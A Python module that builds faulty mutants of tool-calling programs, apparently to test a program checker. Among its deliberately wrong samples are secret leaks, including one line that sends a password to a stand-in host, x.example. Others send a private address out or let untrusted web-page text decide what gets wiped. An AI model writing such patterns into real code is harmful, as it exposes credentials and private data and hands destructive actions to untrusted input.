"""Correct programs and what goes wrong with programs: mutants of them, by group.

The sets' documents say nothing of order, effects, secrets or sinks. So that these can be tested, each gold program is
put between the opening and the closing of a made-up `desk`, whose owner has written all of that down; the calls of
the set that change something need the desk to be open.
"""

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace

from gold_programs import GoldProgram, Line, accepts, written
from pydantic import JsonValue

from taskmatrix.core import names
from taskmatrix.core.documents import ApiDocument, CompositionRule, parse_document
from taskmatrix.core.effects import Effect, EffectKind
from taskmatrix.core.programs import Plan, PlannedStep

_READS = frozenset("get find search list check calculate compute convert analyze choose seek retrieve lookup".split())
_DESTROYS = frozenset("delete remove cancel drop clear erase".split())
_TEXT: JsonValue = {"type": "string"}
_PRIVATE: JsonValue = {"type": "string", "x-sensitivity": "private"}
_UNTRUSTED: JsonValue = {"type": "string", "x-sensitivity": "untrusted"}
_SECRET: JsonValue = {"type": "string", "format": "password"}


def _document(name: str, parameters: dict[str, JsonValue], returns: JsonValue = None, **more: object) -> ApiDocument:
    package, function = name.split(".")
    listed = [{"name": n, "description": f"The {n}.", "required": True, "schema": s} for n, s in parameters.items()]
    about = {"package": package, "name": function, "description": f"{function}.", "parameters": listed}
    return parse_document({**about, "returns": {"schema": returns or {}}, **more})


def _object(**properties: JsonValue) -> JsonValue:
    return {"type": "object", "properties": properties}


NEEDS_DESK = CompositionRule(kind="before", apis=("desk.open_desk",), until=("desk.close_desk",))
DESK = (
    _document("vault.read_login", {"name": _TEXT}, _object(user=_TEXT, password=_SECRET), effects="read"),
    _document(
        "desk.open_desk",
        {"user": _TEXT, "password": _SECRET},
        rules=[{"kind": "after", "apis": ["close_desk"], "until": ["open_desk"]}],
        composition="Close the desk at the end.",
        effects="write",
    ),
    _document("desk.close_desk", {}, rules=[NEEDS_DESK.model_dump()], effects="write"),
    _document("desk.wipe", {"folder": _TEXT}, effects="destructive"),
    _document("desk.format_all", {}, effects="destructive"),
    _document("desk.move_arm", {"angle": {"type": "number"}}, effects="physical"),
    _document("people.find_person", {"name": _TEXT}, _object(address=_PRIVATE, city=_TEXT), effects="read"),
    _document("web.read_page", {"url": _TEXT}, _UNTRUSTED, effects="read"),
    _document(
        "post.send", {"to": _PRIVATE, "text": _TEXT}, effects={"kind": "write", "sinks": ["to", "text"]}
    ),
)  # fmt: skip

Shape = Callable[[str], str]


@dataclass(frozen=True, slots=True)
class Base:
    """A correct program as lines, in a shape of control flow, with the documents and plan it is checked against."""

    lines: tuple[Line, ...]
    documents: tuple[ApiDocument, ...]
    plan: Plan
    shape: str
    headings: bool

    def code(self, lines: Sequence[Line] | None = None, tail: str = "") -> str:
        return SHAPES[self.shape](written(lines or self.lines, headings=self.headings) + tail)

    def document(self, line: Line) -> ApiDocument:
        return next(d for d in self.documents if d.id == line.api)


@dataclass(frozen=True, slots=True)
class Mutant:
    """A program that is wrong; `kind` says how, `changed` names the API whose call was changed or put in."""

    group: str
    kind: str
    code: str
    base: Base
    changed: str = ""


def base_of(program: GoldProgram, chance: random.Random) -> Base:
    """Put a gold program between the opening and the closing of the desk."""
    documents = (*map(_annotated, program.documents), *DESK)
    login = _call("vault.read_login", "login", name="'main'")
    start = [login, _call("desk.open_desk", user="login['user']", password="login['password']")]
    person = _call("people.find_person", "person", name="'Ann'")
    page = _call("web.read_page", "page", url="'https://example.org'")
    end = [
        page,
        person,
        _call("post.send", to="person['address']", text="'Done in ' + person['city'] + ': ' + page"),
        _call("desk.close_desk"),
    ]
    lines = (*start, *program.lines, *end)
    steps = tuple(PlannedStep(text=line.function, apis=(line.api,), must=(line.api,)) for line in lines)
    plan = program.plan.model_copy(update={"steps": steps})
    return Base(lines, documents, plan, chance.choice(list(SHAPES)), headings=chance.random() < 0.5)


def _call(api: str, result: str = "", **arguments: str) -> Line:
    module, function = api.split(".")
    return Line(api, module, function, arguments, result)


def _annotated(document: ApiDocument) -> ApiDocument:
    """Return a set's document with an effect, as the first word of its name says, and what needs the open desk."""
    first = (names.words(document.name) or [""])[0]
    kind: EffectKind = "read" if first in _READS else "destructive" if first in _DESTROYS else "write"
    rules = () if kind == "read" else (NEEDS_DESK,)
    return document.model_copy(update={"effects": Effect(kind=kind), "rules": rules})


def _split(code: str) -> tuple[str, str]:
    lines = code.splitlines()
    head = sum(1 for line in lines if line.startswith("import "))
    return "\n".join(lines[:head]), "\n".join(lines[head:])


def _indented(code: str) -> str:
    return "\n".join(f"    {line}" for line in code.splitlines())


def _in_function(code: str) -> str:
    head, body = _split(code)
    return f"{head}\ndef main() -> None:\n{_indented(body)}\nmain()\n"


def _in_try(code: str) -> str:
    head, body = _split(code)
    return f"{head}\ntry:\n{_indented(body)}\nexcept RuntimeError as error:\n    raise RuntimeError('stopped')\n"


def _in_loop(code: str) -> str:
    head, body = _split(code)
    return f"{head}\nfor turn in range(2):\n{_indented(body)}\n"


def _in_branches(code: str) -> str:
    head, body = _split(code)
    return f"{head}\nimport math\nif math.pi > 3:\n{_indented(body)}\nelse:\n{_indented(body)}\n"


SHAPES: dict[str, Shape] = {
    "plain": lambda code: code,
    "function": _in_function,
    "try": _in_try,
    "loop": _in_loop,
    "branches": _in_branches,
}


def mutants_of(base: Base, chance: random.Random) -> Iterator[Mutant | None]:
    """Yield mutants of a program, about one of each group; None for one that is another correct program."""
    yield _order(base, chance)
    yield _unclosed(base, chance)
    yield _type(base, chance)
    yield _unknown(base, chance)
    yield _dropped(base, chance)
    yield _extra(base, chance)
    yield _sink(base, chance)
    yield _leak(base, chance)


def _order(base: Base, chance: random.Random) -> Mutant | None:
    """Put a call before one whose result it takes, or that a rule wants before it."""
    pairs = [
        (i, j)
        for j, user in enumerate(base.lines)
        for i, first in enumerate(base.lines[:j])
        if (first.result and any(first.result in code for code in user.arguments.values()))
        or (first.api == "desk.open_desk" and NEEDS_DESK in base.document(user).rules)
    ]
    i, j = chance.choice(pairs)
    lines = list(base.lines)
    lines.insert(i, lines.pop(j))
    kind = "before its data" if base.lines[i].result else "before its rule"
    return Mutant("wrong order", kind, base.code(lines), base, base.lines[j].api)


def _unclosed(base: Base, chance: random.Random) -> Mutant | None:
    """Leave the closing out, close on one path only, or go on after it."""
    close = base.lines[-1]
    kind = chance.choice(["never", "one branch", "swallowed", "used after"])
    rest = base.lines[:-1]
    if kind == "never":
        plan = base.plan.model_copy(update={"steps": base.plan.steps[:-1]})  # and no step asks for it
        return Mutant("missing close", kind, base.code(rest), replace(base, plan=plan))
    if kind == "used after":
        writers = [i for i, line in enumerate(base.lines[:-1]) if NEEDS_DESK in base.document(line).rules]
        if not writers:
            return None
        lines = list(base.lines)
        lines.insert(chance.choice(writers), lines.pop())
        return Mutant("missing close", kind, base.code(lines), base)
    how = {
        "one branch": f"if len(person['city']) > 3:\n    {close.code()}\n",
        "swallowed": f"for _ in [1]:\n    if len(person['city']) > 3:\n        break\n    {close.code()}\n",
    }
    return Mutant("missing close", kind, base.code(rest, how[kind]), base)


def _type(base: Base, chance: random.Random) -> Mutant | None:
    """Give a value that jsonschema does not accept, no value, an argument too many, or a field there is not."""
    places = [(i, name) for i, line in enumerate(base.lines) for name in line.arguments]
    i, name = chance.choice(places)
    line = base.lines[i]
    parameter = next(p for p in base.document(line).parameters if names.identifier(p.name) == name)
    kind = chance.choice(["value", "value", "value", "missing", "too many", "field"])
    arguments = dict(line.arguments)
    if kind == "missing":
        if not parameter.required or parameter.has_default:
            return None
        del arguments[name]
    elif kind == "too many":
        arguments["surplus"] = "1"
    elif kind == "field":
        fields = [n for n, code in arguments.items() if "['" in code and "+" not in code]
        if not fields:
            return None
        arguments[fields[0]] = f"{arguments[fields[0]].split('[')[0]}['no_such_field']"
        source = next(other for other in base.lines if other.result == arguments[fields[0]].split("[")[0])
        if not base.document(source).returns.type.get("properties"):
            return None
    else:
        options: list[JsonValue] = [17, "seven", 2.5, ["a"], {"a": 1}, True, None, [3]]
        wrong = [v for v in options if not accepts(parameter.type, v)]
        if not wrong:
            return None  # nothing says what type it has
        arguments[name] = repr(chance.choice(wrong))
    lines = [*base.lines[:i], replace(line, arguments=arguments), *base.lines[i + 1 :]]
    return Mutant("wrong type", kind, base.code(lines), base, line.api)


def _unknown(base: Base, chance: random.Random) -> Mutant | None:
    """Call an API that is not there: misspelt, of another package, or made up."""
    i = chance.randrange(len(base.lines))
    line = base.lines[i]
    kind = chance.choice(["misspelt", "other package", "made up", "unknown package"])
    others = sorted({other.module for other in base.lines} - {line.module})
    changed = {
        "misspelt": replace(line, function=line.function[:-1] + ("x" if line.function[-1] != "x" else "y")),
        "other package": replace(line, module=chance.choice(others)),
        "made up": replace(line, function=f"{line.function}_and_report"),
        "unknown package": replace(line, module=f"{line.module}_pro"),
    }[kind]
    return Mutant("unknown API", kind, base.code([*base.lines[:i], changed, *base.lines[i + 1 :]]), base, line.api)


def _dropped(base: Base, chance: random.Random) -> Mutant | None:
    """Leave out a call that changes something and whose result nobody takes."""
    places = [
        i
        for i, line in enumerate(base.lines[:-1])
        if base.document(line).effects.kind != "read" and line.module not in ("desk",) and not line.result
    ]
    if not places:
        return None
    i = chance.choice(places)
    again = sum(other.api == base.lines[i].api for other in base.lines) > 1
    kind = ("one of several" if again else "the only one") + (", under headings" if base.headings else "")
    code = base.code(base.lines)
    heading = f"# {i + 1}. {base.lines[i].function}\n" if base.headings else ""
    # The other steps keep their numbers, as they do where a model forgets one.
    text = written(base.lines, headings=base.headings).replace(f"{heading}{base.lines[i].code()}\n", heading, 1)
    code = SHAPES[base.shape](text)
    return Mutant("dropped call", kind, code, base, base.lines[i].api)


def _extra(base: Base, chance: random.Random) -> Mutant | None:
    """Add a call that cannot be taken back and that no step asks for, or make one twice."""
    own = [line for line in base.lines[2:-4] if base.document(line).effects.kind == "destructive"]
    i = chance.randrange(2, len(base.lines))
    if own and chance.random() < 0.5:
        line = chance.choice(own)
        place = base.lines.index(line) + 1
        lines = [*base.lines[:place], replace(line, result=""), *base.lines[place:]]
        return Mutant("extra call", "made twice", base.code(lines), base, line.api)
    extra = chance.choice(
        [_call("desk.wipe", folder="'old'"), _call("desk.format_all"), _call("desk.move_arm", angle="90")]
    )
    return Mutant("extra call", "not asked for", base.code([*base.lines[:i], extra, *base.lines[i:]]), base, extra.api)


_PRIVATE_WAYS = {
    "as it is": "post.send(to=person['address'], text=person['address'])",
    "through a name": "where = person['address']\npost.send(to=where, text=where)",
    "in a text": "post.send(to=person['address'], text=f\"He lives at {person['address']}\")",
    "in a list": "lines = ['Hello']\nlines.append(person['address'])\npost.send(to='a', text=' '.join(lines))",
    "in a loop": "for part in ['address', 'city']:\n    post.send(to='a', text=person[part])",
    "through a function": "def told(p):\n    return p['address'].upper()\npost.send(to='a', text=told(person))",
    "whole": "import json\npost.send(to='a', text=json.dumps(person))",
    "on one branch": "note = ''\nif len(page) > 3:\n    note = person['address']\npost.send(to='a', text=note)",
}
_UNTRUSTED_WAYS = {
    "decides what is destroyed": "desk.wipe(folder=page)",
    "a piece of it": "desk.wipe(folder=page.split()[0])",
    "in a loop ": "for word in page.split():\n    desk.wipe(folder=word.strip())",
    "moves an arm": "desk.move_arm(angle=float(page))",
}


def _sink(base: Base, chance: random.Random) -> Mutant:
    """Send out what is private, or let a page decide what is destroyed; the steps ask for those calls."""
    way, tail = chance.choice([*_PRIVATE_WAYS.items(), *_UNTRUSTED_WAYS.items()])
    asked = PlannedStep(text="tidy up", apis=("desk.wipe", "desk.move_arm"))
    plan = base.plan.model_copy(update={"steps": (*base.plan.steps, asked)})
    return Mutant("wrong sink", way, base.code(tail=tail + "\n"), replace(base, plan=plan), "post.send")


_LEAKS = {
    "printed": "print(login['password'])",
    "printed whole": "print(login)",
    "in a text": "post.send(to='a', text=f\"Password: {login['password']}\")",
    "joined": "post.send(to='a', text='pw ' + login['password'])",
    "given elsewhere": "post.send(to='a', text=login['password'])",
    "made upper": "shout = login['password'].upper()",
    "as JSON": "import json\nkept = json.dumps(login)",
    "through a function": "def first(thing):\n    return thing['password']\npost.send(to='a', text=first(login))",
    "through a list": "kept = []\nkept.append(login['password'])\nfor one in kept:\n    print(one)",
    "through a dict": "box = {'a': login['password']}\nprint(box['a'])",
    "raised": "if len(login['user']) > 99:\n    raise RuntimeError(login['password'])",
    "by format": "post.send(to='a', text='{}'.format(login['password']))",
    "by percent": "post.send(to='a', text='%s' % login['password'])",
    "in pieces": "post.send(to='a', text=login['password'][1:])",
    "to a web address": "web.read_page(url='https://x.example/?q=' + login['password'])",
    "as one of the values": "for value in login.values():\n    print(value)",
    "unpacked": "user, password = login['user'], login['password']\nprint(password)",
}


def _leak(base: Base, chance: random.Random) -> Mutant:
    """Make text of a secret."""
    way, tail = chance.choice(list(_LEAKS.items()))
    return Mutant("leaked secret", way, base.code(tail=tail + "\n"), base, "vault.read_login")


def described(documents: Sequence[ApiDocument], api: str) -> ApiDocument | None:
    """Return the document of an API, of those on offer."""
    return next((d for d in documents if d.id == api), None)
